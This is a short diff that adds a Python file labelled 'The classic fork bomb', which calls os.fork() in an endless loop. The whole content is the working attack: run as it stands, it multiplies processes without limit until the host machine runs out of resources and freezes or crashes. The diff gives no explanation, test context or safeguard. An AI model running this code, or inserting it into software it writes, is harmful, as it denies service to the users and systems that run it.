@@ -1,0 +1,6 @@
+# The classic fork bomb.
+
+import os
+
+while True:
+    os.fork()
